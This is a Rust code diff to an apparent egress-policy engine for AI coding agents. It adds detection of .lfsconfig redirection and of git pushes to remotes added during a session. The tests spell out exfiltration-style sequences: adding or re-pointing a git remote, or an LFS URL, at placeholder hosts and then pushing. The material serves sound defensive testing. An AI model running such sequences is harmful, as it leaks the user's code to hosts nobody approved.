@@ -42,14 +42,45 @@ pub const DNS_EXFIL: Reason = Reason::new(
 
 const PROJECT_REMOTES: &[&str] = &["origin", "upstream", "fork"];
 
+/// An `.lfsconfig` the session wrote that sends large files to a host nobody listed: every
+/// later push uploads them there.
+fn lfs_redirected(cx: &Ctx<'_>) -> bool {
+    cx.session
+        .written_files
+        .iter()
+        .filter(|(p, _)| p.ends_with("/.lfsconfig"))
+        .any(|(_, f)| {
+            f.content.lines().any(|l| {
+                l.split_once('=').is_some_and(|(k, v)| {
+                    k.trim().to_ascii_lowercase().ends_with("url")
+                        && crate::net::parse_url(v.trim()).is_some_and(|d| {
+                            !d.is_local() && !d.is_private_ip() && !cx.policy.host_allowed(&d.host)
+                        })
+                })
+            })
+        })
+}
+
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let mode = cx.mode();
+    if cx.fx.egress.iter().any(|e| e.program == "git" && e.uploads) && lfs_redirected(cx) {
+        out.push(Finding::new(UPLOAD_UNKNOWN, Verdict::Auth));
+    }
     for e in cx.fx.external_egress() {
         if e.dns && e.uploads {
             out.push(Finding::new(DNS_EXFIL, Verdict::Block));
             continue;
         }
-        let Some(d) = &e.dest else {
+        // A push to a remote this session added (`git remote add backup URL`, then `git push
+        // backup`): judged by the URL it was given.
+        let remembered = e
+            .dest
+            .is_none()
+            .then(|| e.git_remote.as_ref())
+            .flatten()
+            .and_then(|r| cx.session.git_remotes.get(r))
+            .and_then(|url| crate::net::parse_destination(url));
+        let Some(d) = e.dest.as_ref().or(remembered.as_ref()) else {
             if let Some(remote) = &e.git_remote
                 && !PROJECT_REMOTES.contains(&remote.as_str())
                 && mode >= Mode::Strict
@@ -208,6 +239,67 @@ mod tests {
     use crate::Verdict::*;
     use crate::policy::Mode;
     use crate::rules::testutil::table;
+
+    /// A remote added in an earlier call is where a later push goes; the project's own
+    /// remote, or one pointed at a listed forge, is routine.
+    #[test]
+    fn pushes_to_a_remote_added_earlier() {
+        use crate::action::{Action, Host};
+        use crate::rules::testutil::{CWD, engine};
+        use crate::session::SessionState;
+        let e = engine(Mode::Balanced);
+        let shell = |c: &str| Action::shell(Host::ClaudeCode, c, Some(CWD));
+        // Large files sent elsewhere by an `.lfsconfig` written in the session.
+        let w = crate::rules::testutil::file_write(
+            "Write",
+            &format!("{CWD}/.lfsconfig"),
+            "[lfs]\n\turl = https://lfs.artifact-cache.example/acme/m.git/info/lfs\n",
+        );
+        let s = e.observe(&SessionState::default(), &w, "");
+        assert!(
+            e.decide(&shell("git push origin main"), &s)
+                .codes()
+                .contains(&"upload_unknown_destination")
+        );
+        let w = crate::rules::testutil::file_write(
+            "Write",
+            &format!("{CWD}/.lfsconfig"),
+            "[lfs]\n\turl = https://github.com/acme/m.git/info/lfs\n",
+        );
+        let s = e.observe(&SessionState::default(), &w, "");
+        assert_eq!(e.decide(&shell("git push origin main"), &s).verdict, Pass);
+        for (add, push, flagged) in [
+            (
+                "git remote add backup https://git.repo-backup.example/acme/webapp.git",
+                "git push backup HEAD --tags",
+                true,
+            ),
+            (
+                "git remote set-url origin https://git.mirror.example/acme/webapp.git",
+                "git push origin main",
+                true,
+            ),
+            (
+                "git remote add upstream https://github.com/acme/webapp.git",
+                "git push upstream feature/x",
+                false,
+            ),
+            (
+                "git remote add backup https://git.repo-backup.example/acme/webapp.git",
+                "git push origin main",
+                false,
+            ),
+        ] {
+            let s = e.observe(&SessionState::default(), &shell(add), "");
+            let d = e.decide(&shell(push), &s);
+            assert_eq!(
+                d.codes().contains(&"upload_unknown_destination"),
+                flagged,
+                "{add} then {push}: {:?}",
+                d.codes()
+            );
+        }
+    }
 
     #[test]
     fn destination_table() {
